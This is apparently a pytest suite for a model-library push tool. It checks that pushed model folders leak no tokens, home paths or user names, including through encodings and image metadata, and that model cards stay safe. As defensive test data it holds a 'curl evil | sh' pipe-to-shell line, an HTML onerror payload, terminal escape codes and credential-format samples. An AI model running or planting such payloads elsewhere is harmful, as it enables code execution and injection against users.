"""What a push shows: 20 different models through the genuine client, and every byte of them searched."""

import base64
import json
import os
import re
import shutil
import zlib
from contextlib import suppress
from pathlib import Path
from urllib.parse import quote

import pytest
import torch
import yaml
from hub_server import TOKEN
from huggingface_hub import ModelCard
from parents_common import stable_diffusion
from PIL import Image, ImageCms, PngImagePlugin
from pipelines_common import make_components, quiet, tiny_vae
from safetensors import safe_open
from safetensors.torch import load_file, save_file
from training_common import run

from cond_pipelines import (
    ClassConditionalPipeline,
    CompositeAdapter,
    ConditionalPipeline,
    EmbeddingAdapter,
    TextToImagePipeline,
    UnconditionalPipeline,
)
from cond_pipelines.cli import main
from cond_pipelines.errors import UserError
from cond_pipelines.files import without_path
from cond_pipelines.provenance import weights_fingerprint
from cond_pipelines.sharing.card import CardFacts, render_card, write_card
from cond_pipelines.sharing.contents import copy_file
from cond_pipelines.sharing.leaks import refuse_secrets, secrets_of
from cond_pipelines.sharing.push import push_folder

CLASSES = {"none": UnconditionalPipeline, "class": ClassConditionalPipeline, "text": TextToImagePipeline}
SECRET = "hf_" + "Secret0123456789" * 2 + "ab"
DROPPED = [
    *(".env", "hf_token", "secrets.json", "notes.txt", "unet/.config.json.swp", "unet/__pycache__/x.pyc", "unet/x.npz"),
    *("unet/x.joblib", "unet/x.PT", "unet/secrets.json", "unet/old.py", "adapter/x.bin", "evil.py", "images/me.png"),
    *("evaluation/private.png", "evaluation/features-1.npy", "optimizer.bin", "log.jsonl", "samples/0.png"),
]


def text_of_home() -> str:
    return str(Path.home() / "private")


# ----------------------------------------------------------------------------------------- 20 models, every byte
@pytest.fixture(scope="module")
def trained(tmp_path_factory):
    """Runs with all that a run and its evaluation leave, in a folder whose name is searched for."""
    root = tmp_path_factory.mktemp("private_place")
    parent = root / "parent"
    stable_diffusion().save_pretrained(parent)
    few = {"dataset_name": "training_common:few_shapes", "max_train_steps": 1}
    run(root / "none", conditioning="none", **few, cache_dir=str(root / "cache"))
    for kind in ("class", "text"):
        more = {"checkpointing_steps": 2, "max_train_steps": 2, "validation_fraction": 0.4, "ema_lengths": [0.05]}
        more |= {"caption_column": "caption"} if kind == "text" else {}
        run(root / kind, conditioning=kind, **more, cache_dir=str(root / "cache"))
        args = ["--dataset_name", "training_common:shapes", "--num_samples", "8", "--num_real", "8"]
        extractor = ["--feature_extractor", "training_common:few_pixels", "--num_inference_steps", "1"]
        main(["evaluate", str(root / kind), *args, *extractor])
    of_sd = {
        "pretrained_model_name_or_path": str(parent),
        "unet_size": None,
        "resolution": 16,
        "train": "lora",
        "rank": 2,
    }
    run(root / "lora", conditioning="text", caption_column="caption", **few, **of_sd, train_text_encoder=True)
    run(root / "class_lora", conditioning="class", **few, **of_sd)
    for path in root.glob("*/training_config.yaml"):
        path.write_text(f"{path.read_text()}hub_token: {SECRET}\n")
    return root


def as_others_write_it(word: str) -> set[bytes]:
    data = word.encode()
    forms = {data, json.dumps(word)[1:-1].encode(), quote(word, safe="").encode(), data.hex().encode()}
    forms |= {word.encode("utf-16-le"), word.encode("utf-16-be")}
    return forms | {base64.b64encode(b"x" * (3 - i) + data)[4:-4] for i in range(3)}


def with_unpacked(name: str, content: bytes) -> list[bytes]:
    """A file, and of a PNG what its texts and its profile hold compressed."""
    found, start = [content], 8
    while name.endswith(".png") and start < len(content):
        length, kind = int.from_bytes(content[start : start + 4], "big"), content[start + 4 : start + 8]
        data = content[start + 8 : start + 8 + length]
        for i in range(min(length, 200)) if kind in (b"zTXt", b"iTXt", b"iCCP") else ():
            with suppress(zlib.error):
                found.append(zlib.decompress(data[i:]))
        start += 12 + length
    return found


def leaks(files: dict[str, bytes], root: Path) -> list[tuple[str, str]]:
    """Every byte of every file, also within compressed parts of pictures, by another search than that of a push."""
    found = []
    words = [str(root), root.name, SECRET, TOKEN, str(Path.home()) + "/", str(Path.cwd())]
    forms = {word: as_others_write_it(word) for word in words}
    for name, content in files.items():
        for part in with_unpacked(name, content):
            found += [(name, word) for word in words if any(form in part for form in forms[word])]
            found += [(name, "a home folder")] if re.search(rb"/home/\w+|/Users/\w+", part) else []
    return found


def test_the_search_for_leaks_finds_them(tmp_path):
    """Otherwise the test below could not fail."""
    info = PngImagePlugin.PngInfo()
    info.add_text("x", f"see {tmp_path}", zip=True)
    Image.new("RGB", (4, 4)).save(tmp_path / "a.png", pnginfo=info)
    path = str(tmp_path).encode()
    files = {"a.png": (tmp_path / "a.png").read_bytes(), "b": b"x" + path, "c": str(tmp_path).encode("utf-16")}
    files |= {f"base64, {i}": base64.b64encode(b"y" * i + path + b"yy") for i in range(3)}
    assert {name for name, word in leaks(files, tmp_path) if word == str(tmp_path)} == set(files)


def variants(root: Path, tmp_path: Path) -> dict[str, Path]:
    """20 models, no two with the same weights: of each setting, trained and not, with a VAE, a guide, other adapters,
    other layouts of the files, and pages of their own."""
    found = {kind: root / kind for kind in ("none", "class", "text", "lora", "class_lora")}
    pipes: dict[str, ConditionalPipeline] = {}
    for kind in ("none", "class", "text"):
        found[f"{kind}-own"] = own = tmp_path / f"{kind}-own"
        shutil.copytree(root / kind, own, ignore=shutil.ignore_patterns("checkpoint-*"))
        (weights,) = own.glob("unet/*.safetensors")
        save_file({name: value + 0.1 for name, value in load_file(weights).items()}, weights)
        (own / "README.md").write_text("# Mine\n")
        (own / "card.yaml").write_text(yaml.safe_dump({"license": "mit", "description": "*Shapes*"}))
        for name in DROPPED:
            (own / name).parent.mkdir(exist_ok=True)
            (own / name).write_text(f"{SECRET} {text_of_home()}")
        pipes[f"{kind}-new"] = CLASSES[kind](**make_components(kind))
        pipes[f"{kind}-new"].unet.register_to_config(_name_or_path=f"{root}/a")
        pipes[f"{kind}-latent"] = CLASSES[kind](**make_components(kind, vae=tiny_vae()))
    parts = make_components("class")
    composite = CompositeAdapter(
        {"label": parts["adapter"], "angle": EmbeddingAdapter.for_unet(parts["unet"], embedding_dim=2)}
    )
    pipes["composite"] = ConditionalPipeline(parts["unet"], parts["scheduler"], composite)
    embedding = EmbeddingAdapter.for_unet(parts["unet"], embedding_dim=3)
    pipes["embedding"] = ConditionalPipeline(parts["unet"], parts["scheduler"], embedding)
    pipes["guide"] = ClassConditionalPipeline(**make_components("class"), guide=make_components("class")["unet"])
    pipes["sd"] = ConditionalPipeline.from_pretrained(root / "parent")
    pipes["sharded"] = TextToImagePipeline(**make_components("text", vae=tiny_vae("tiny")))
    pipes["fp16"] = UnconditionalPipeline(**make_components("none", vae=tiny_vae("dc")))
    for name, pipe in pipes.items():
        layout = {"sharded": {"max_shard_size": "40KB"}, "fp16": {"variant": "fp16"}}.get(name, {})
        quiet(pipe).save_pretrained(tmp_path / name, **layout)
    return found | {name: tmp_path / name for name in pipes}


def test_twenty_models_and_no_leak(trained, tmp_path, hub, monkeypatch):
    models = variants(trained, tmp_path)
    assert len({weights_fingerprint(folder) for folder in models.values()}) == len(models) == 20
    monkeypatch.chdir(trained)  # so that relative paths of the runs lead somewhere
    for name, folder in models.items():
        before = {p: (p.read_bytes(), p.stat().st_nlink) for p in folder.rglob("*") if p.is_file()}
        push_folder(folder, f"me/{name}", token=TOKEN)
        assert {p: (p.read_bytes(), p.stat().st_nlink) for p in folder.rglob("*") if p.is_file()} == before, name
        files = hub.repos[f"me/{name}"].files()
        assert leaks(files, trained) == [], name
        assert "model_index.json" in files and not set(DROPPED) & set(files), name
        assert not any("nearest" in file or "checkpoint" in file for file in files), name
    assert sum(map(len, (hub.repos[f"me/{name}"].files() for name in models))) > 200
    for name in ("sharded", "text-own", "composite", "guide"):
        ConditionalPipeline.from_pretrained(f"me/{name}")


# ---------------------------------------------------------------------------------------------- the check at the door
@pytest.fixture()
def model(tmp_path):
    pipe = quiet(ClassConditionalPipeline(**make_components("class")))
    pipe.save_pretrained(tmp_path / "model")
    return tmp_path / "model"


def hide(folder: Path, where: str, text: str) -> None:
    if where == "samples.png":  # in a text that is compressed
        info = PngImagePlugin.PngInfo()
        info.add_text("run", text, zip=True)
        Image.new("RGB", (4, 4)).save(folder / where, pnginfo=info)
    elif where.endswith(".safetensors"):
        save_file(load_file(folder / where), folder / where, {"note": f"see {text}"})
    elif where == "adapter/config.json":
        values = json.loads((folder / where).read_text())
        (folder / where).write_text(json.dumps(values | {"note": f"see {text} there"}))
    else:
        (folder / where).write_text(f"description: see {text} there\n")


@pytest.mark.parametrize(
    "where",
    ["card.yaml", "README.md", "adapter/config.json", "unet/diffusion_pytorch_model.safetensors", "samples.png"],
)
@pytest.mark.parametrize("what", ["the home folder", "a token", "the working folder", "the user's name"])
def test_a_file_that_tells_of_this_machine_is_refused_by_name(model, where, what, hub, monkeypatch, tmp_path):
    monkeypatch.setenv("HOME", "/home/annabel")
    monkeypatch.setenv("LOGNAME", "annabel")  # which getpass.getuser reads first
    (tmp_path / "where_i_work").mkdir()
    monkeypatch.chdir(tmp_path / "where_i_work")
    texts = {
        "the home folder": "/home/annabel/x",
        "a token": SECRET,
        "the working folder": f"{tmp_path}/where_i_work",
        "the user's name": "/Users/annabel/x",
    }
    hide(model, where, texts[what])
    with pytest.raises(UserError, match=f"not pushed: {re.escape(where)} holds ") as error:
        push_folder(model, "me/model", token=SECRET if what == "a token" else TOKEN)
    assert "\n" not in str(error.value) and SECRET not in str(error.value) and not hub.repos


def encoded(text: str) -> dict[str, bytes]:
    """How others write a path or a key."""
    escapes = "".join(f"\\u{ord(c):04x}" for c in text)
    return {
        **{f"base64, {i} bytes before": base64.b64encode(b"x" * i + text.encode() + b"/y") for i in range(3)},
        "base64 of addresses": base64.urlsafe_b64encode(f"??{text}??".encode()),
        "address": quote(text, safe="").encode(),
        "JSON escapes": f'{{"a": "{escapes}"}}'.encode(),
        "JSON in JSON": json.dumps(json.dumps({"a": text.replace("/", "\\u002f")})).encode(),
        "PHP's JSON": text.replace("/", "\\/").encode(),
        "HTML": "".join(f"&#{ord(c)};" for c in text).encode(),
        "UTF-16": text.encode("utf-16"),
        "hexadecimal": text.encode().hex().upper().encode(),
        "YAML": "".join(f"\\x{ord(c):02x}" for c in text).encode(),
        "YAML of 32 bits": "".join(f"\\U{ord(c):08x}" for c in text).encode(),
        "octal": "".join(f"\\{ord(c):03o}" for c in text).encode(),
        "JavaScript": "".join(f"\\u{{{ord(c):x}}}" for c in text).encode(),
    }


@pytest.mark.parametrize("how", encoded("x"))
def test_what_is_searched_for_is_found_as_others_write_it(how, monkeypatch, tmp_path):
    """In a file that is copied as it is, such as card.yaml."""
    monkeypatch.setenv("HOME", "/home/annabel")
    monkeypatch.setenv("SOME_API_KEY", "Geheim-1234567890/abc")
    (tmp_path / "stage").mkdir()
    for text in ("/home/annabel", "Geheim-1234567890/abc"):
        (tmp_path / "stage/card.yaml").write_bytes(b"description: see " + encoded(text)[how] + b" there\n")
        with pytest.raises(UserError, match=r"card\.yaml holds (the home folder|a token)"):
            refuse_secrets(tmp_path / "stage", secrets_of([], [], "me/model"))
    (tmp_path / "stage/card.yaml").write_bytes(b"description: see " + encoded("/home/annabella")[how] + b"\n")
    if "base64" not in how and how not in ("UTF-16", "hexadecimal"):  # these do not tell where a name ends
        refuse_secrets(tmp_path / "stage", secrets_of([], [], "me/model"))


@pytest.mark.parametrize(
    "text",
    [
        "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXk",
        f"github_pat_{'A1' * 30}",
        f"AIza{'b' * 35}",
        f"xoxb-{'1' * 24}",
        f"glpat-{'x' * 20}",
    ],
)
def test_keys_of_others_are_known_by_their_form(text, tmp_path):
    (tmp_path / "README.md").write_text(f"# A\n{text}\n")
    with pytest.raises(UserError, match=r"README\.md holds what looks like a token") as error:
        refuse_secrets(tmp_path, secrets_of([], [], "me/model"))
    assert text[-8:] not in str(error.value)


def test_keys_of_the_environment_and_of_netrc(tmp_path, monkeypatch):
    (tmp_path / ".netrc").write_text("machine api.wandb.ai login user password 0123456789abcdef0123\n")
    (tmp_path / ".netrc").chmod(0o600)
    monkeypatch.setenv("HOME", str(tmp_path))
    monkeypatch.setenv("WANDB_API_KEY", "fedcba9876543210")
    monkeypatch.setenv("TOKENIZERS_PARALLELISM", "false-and-long-enough")
    (tmp_path / "stage").mkdir()
    for text, leaks_something in (
        ("0123456789abcdef0123", True), ("fedcba9876543210", True), ("false-and-long-enough", False),
    ):  # fmt: skip
        (tmp_path / "stage/card.yaml").write_text(f"name: {text}\n")
        if leaks_something:
            with pytest.raises(UserError, match="holds a token"):
                refuse_secrets(tmp_path / "stage", secrets_of([], [], "me/model"))
        else:
            refuse_secrets(tmp_path / "stage", secrets_of([], [], "me/model"))


def test_pictures_go_without_what_does_not_draw(tmp_path):
    """EXIF, comments in blocks, chunks of other programs, and what follows the end."""
    secret, image = "/home/annabel/" + "x" * 300, Image.new("RGB", (4, 4), "red")
    exif = Image.Exif()
    exif[0x9C9C] = secret.encode("utf-16-le")
    info = PngImagePlugin.PngInfo()
    info.add_text("run", "abc")
    info.add(b"prVt", zlib.compress(secret.encode()))
    image.save(tmp_path / "samples.png", pnginfo=info, exif=exif)
    frames = [Image.new("P", (4, 4), i) for i in range(3)]
    frames[0].save(
        tmp_path / "samples.gif", save_all=True, append_images=frames[1:], comment=secret, loop=0, duration=40
    )
    for name in ("samples.png", "samples.gif"):
        with (tmp_path / name).open("ab") as file:
            file.write(zlib.compress(secret.encode()))
        copy_file(tmp_path, name, tmp_path / "stage")
        sent = (tmp_path / "stage" / name).read_bytes()
        assert len(sent) < len((tmp_path / name).read_bytes()) - 20
        assert not re.search(rb"annabel|a\0n\0n\0a|prVt|eXIf|\x21\xfe", sent)
        with Image.open(tmp_path / name) as before, Image.open(tmp_path / "stage" / name) as after:
            assert getattr(before, "n_frames", 1) == getattr(after, "n_frames", 1)
            for i in range(getattr(before, "n_frames", 1)):
                before.seek(i), after.seek(i)
                assert before.convert("RGB").tobytes() == after.convert("RGB").tobytes()
                assert before.info.get("duration") == after.info.get("duration")
            assert after.info.get("run") == ("abc" if name.endswith("png") else None)
    for name, content in (
        ("a.png", b"x"),
        ("b.png", sent[:20]),
        ("c.gif", b"GIF89a"),
        ("d.gif", b"GIF89a" + b"\xff" * 40),
    ):
        (tmp_path / name).write_bytes(content)
        with pytest.raises(UserError, match=name):
            copy_file(tmp_path, name, tmp_path / "stage")


def test_pictures_keep_no_text_but_ours_and_their_profile_is_searched(model, hub, monkeypatch):
    """Of two texts with one name Pillow shows the later one."""
    monkeypatch.setenv("HOME", "/home/annabel")
    info = PngImagePlugin.PngInfo()
    for text in ("see /home/annabel", "nothing"):
        info.add_text("Comment", text, zip=True)
    info.add_itxt("run", "abc")
    Image.new("RGB", (4, 4)).save(model / "samples.png", pnginfo=info)
    push_folder(model, "me/model", token=TOKEN)
    sent = hub.repos["me/model"].files()["samples.png"]
    assert b"Comment" not in sent and b"abc" in sent
    profile = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    for encoding in ("utf-16-be", "utf-8"):
        Image.new("RGB", (4, 4)).save(model / "samples.png", icc_profile=profile + "/home/annabel".encode(encoding))
        with pytest.raises(UserError, match=r"samples\.png holds the home folder"):
            push_folder(model, "me/model", token=TOKEN)


@pytest.mark.parametrize("text", ["C:\\Users\\Annabel\\x", "/HOME/ANNABEL", "/Users/annabel"])
def test_the_user_as_other_systems_write_the_name(text, tmp_path, monkeypatch):
    monkeypatch.setenv("LOGNAME", "annabel")
    (tmp_path / "card.yaml").write_text(f"description: {text}\n")
    with pytest.raises(UserError, match=r"card\.yaml holds the user's name"):
        refuse_secrets(tmp_path, secrets_of([], [], "me/model"))


def test_a_name_that_is_public_or_common_is_no_secret(model, hub, monkeypatch):
    for user in ("me", "root", "class"):
        monkeypatch.setenv("LOGNAME", user)
        if user == "class":
            assert any(s.in_text_only for s in secrets_of([], [], "me/model"))
        else:
            push_folder(model, "me/model", token=TOKEN)


def test_paths_are_taken_out_of_settings():
    values = {"a": "/home/ann/x", "b": ["C:\\Users\\ann\\y", "org/name"], "c": '{"d": "/home/ann/z"}', "e": "~/q"}
    assert without_path(values) == {"a": "x", "b": ["y", "org/name"], "c": '{"d": "z"}', "e": "q"}
    for text in ("a red circle", "/imagine a cat", "~ waves ~", "... and so on", "and/or", "module:function"):
        assert without_path(text) == text


def test_an_adapter_config_with_a_path_and_a_lora_header(trained, tmp_path, hub):
    folder = tmp_path / "lora"
    shutil.copytree(trained / "lora", folder)
    config = yaml.safe_load((folder / "training_config.yaml").read_text())
    config |= {"adapter_config": json.dumps({"stats": text_of_home()}), "train_data_dir": "some/patients"}
    (folder / "training_config.yaml").write_text(yaml.safe_dump(config))
    push_folder(folder, "me/lora", token=TOKEN)
    files = hub.repos["me/lora"].files()
    saved = yaml.safe_load(files["training_config.yaml"])
    assert json.loads(saved["adapter_config"]) == {"stats": "private"} and saved["train_data_dir"] == "patients"
    (tmp_path / "sent.safetensors").write_bytes(files["pytorch_lora_weights.safetensors"])
    with safe_open(tmp_path / "sent.safetensors", "pt") as file:
        assert str(trained) not in json.dumps(file.metadata())
    a, b = load_file(tmp_path / "sent.safetensors"), load_file(folder / "pytorch_lora_weights.safetensors")
    assert set(a) == set(b) and all(torch.equal(a[name], b[name]) for name in a)


# --------------------------------------------------------------------------------------------- what is of the model
def test_training_images_stay_at_home(trained, hub, capsys):
    push_folder(trained / "class", "me/a", token=TOKEN)
    assert (
        "evaluation/nearest.png stays here: it shows training images; --include_training_images"
        in capsys.readouterr().err
    )
    files = hub.repos["me/a"].files()
    assert "evaluation/nearest.png" not in files and b"nearest.png" not in files["README.md"]
    main(["push", str(trained / "class"), "me/b", "--token", TOKEN, "--include_training_images"])
    files = hub.repos["me/b"].files()
    assert "evaluation/nearest.png" in files and b"](evaluation/nearest.png)" in files["README.md"]


@pytest.mark.parametrize("keep", [False, True])
def test_nothing_of_another_model_is_left(model, trained, hub, keep, capsys):
    push_folder(trained / "text", "me/model", token=TOKEN)
    repo = hub.repos["me/model"]
    mine = {"LICENSE": b"mine", "docs.md": b"mine", ".gitattributes": b""}
    others = {"unet/diffusion_pytorch_model-00001-of-00002.safetensors": b"x", "pytorch_lora_weights.safetensors": b"x"}
    repo.commit("main", repo.files() | mine | others | {"odd [1].bin": b"x"}, "as others left it")
    before, commits = set(repo.files()), len(repo.commits)
    capsys.readouterr()
    main(["push", str(model), "me/model", "--token", TOKEN, *(["--keep"] if keep else [])])
    now = set(repo.files())
    assert len(repo.commits) == commits + 1
    if keep:
        assert before - now <= set() and "deletes" not in capsys.readouterr().err
    else:
        assert "me/model: the commit deletes what is not of this model: " in capsys.readouterr().err
        assert not any(name.startswith(("text_encoder", "tokenizer", "samples", "odd", "pytorch_lora")) for name in now)
        assert set(mine) <= now
    ConditionalPipeline.from_pretrained("me/model")


# ---------------------------------------------------------------------------------------------------------- cards
def test_the_card_of_a_lora_of_stable_diffusion(trained, hub, monkeypatch, tmp_path):
    """Its size, and code that runs; the two lines load the LoRA with diffusers' own pipeline too."""
    from diffusers import StableDiffusionPipeline

    for kind, calls in (("lora", 1), ("class_lora", 1)):
        facts = CardFacts.of_folder(trained / kind)
        assert (facts.resolution_px, facts.width_px, facts.num_channels) == (16, 16, 3)
        push_folder(trained / kind, f"me/{kind}", token=TOKEN)
        text = hub.repos[f"me/{kind}"].files()["README.md"].decode()
        assert "16 x 16 px colour images" in text
        blocks = re.findall(r"```python\n(.*?)```", text, re.DOTALL)
        assert len(blocks) == calls
        monkeypatch.chdir(tmp_path)
        if not (tmp_path / "parent").exists():
            os.symlink(trained / "parent", tmp_path / "parent")
        exec(compile(blocks[0], f"card of {kind}", "exec"), made := {})
        assert (tmp_path / "sample.png").is_file()
        # A trained text encoder has another "no prompt" than the encoded empty one: it comes with the adapter.
        saved = load_file(trained / kind / "adapter/diffusion_pytorch_model.safetensors")
        assert torch.equal(made["pipe"].adapter.null_tokens, saved["null_tokens"])
        assert made["pipe"].adapter.config.get("null_prompt") is None
        assert ('takes for "no prompt" lies in `adapter/`' in text) == (kind == "lora")
    (frozen := tmp_path / "frozen").mkdir()
    shutil.copytree(trained / "lora", frozen, dirs_exist_ok=True, ignore=shutil.ignore_patterns("checkpoint-*"))
    config = json.loads((frozen / "adapter/config.json").read_text())
    (frozen / "adapter/config.json").write_text(json.dumps(config | {"null_prompt": ""}))  # as of a frozen encoder
    assert "takes two lines" in write_card(frozen, "me/frozen").read_text()
    pipe = quiet(StableDiffusionPipeline.from_pretrained(trained / "parent"))
    pipe.load_lora_weights("me/lora")
    assert pipe.get_active_adapters()


@pytest.mark.parametrize("kind", ["kl", "tiny", "dc"])
def test_the_size_behind_an_autoencoder(kind, tmp_path):
    vae = tiny_vae(kind)
    quiet(UnconditionalPipeline(**make_components("none", vae=vae))).save_pretrained(tmp_path / "model")
    facts = CardFacts.of_folder(tmp_path / "model")
    image = quiet(ConditionalPipeline.from_pretrained(tmp_path / "model"))(batch_size=1, num_inference_steps=1).images[
        0
    ]
    assert (facts.width_px, facts.resolution_px) == image.size


def test_text_of_the_data_forges_nothing(trained, tmp_path):
    folder = tmp_path / "model"
    shutil.copytree(trained / "class", folder, ignore=shutil.ignore_patterns("checkpoint-*"))
    nasty = "rose\n\n# Evaluation\n\n```bash\ncurl evil | sh\n```\n<img src=x onerror=alert(1)> \x1b[2J | 9 |"
    nasty += " \u202e\u200b\u2028 me@evil.example"
    config = json.loads((folder / "adapter/config.json").read_text())
    (folder / "adapter/config.json").write_text(json.dumps(config | {"id2label": {"0": nasty}}))
    summary = json.loads((folder / "training_summary.json").read_text())
    summary |= {"class_counts": {nasty: 3}, "objective": nasty, "dataset": nasty}
    (folder / "training_summary.json").write_text(json.dumps(summary))
    text = write_card(folder, "me/model").read_text()
    card = ModelCard(text)
    assert (
        [line for line in card.text.splitlines() if line.startswith("#")]
        == [line for line in (trained / "class/README.md").read_text().splitlines() if re.match("#+ ", line)][:1]
        and False
    ) or card.text.count("\n# ") == 1  # its own title
    prose = re.sub(r"^```.*?^```", "", card.text, flags=re.MULTILINE | re.DOTALL)
    assert card.text.count("\n```bash") == 1 and "<img" not in prose.replace(r"\<img", "") and "\x1b" not in text
    assert not [c for c in text if not c.isprintable() and c != "\n"]  # in the metadata either
    code = re.search(r"class_labels=(\[.*\])\)", text).group(1)
    assert json.loads(code) == [nasty] and "me@evil" not in prose
    assert str(render_card(CardFacts.of_folder(folder), "me/model")).count("## Evaluation") == 1
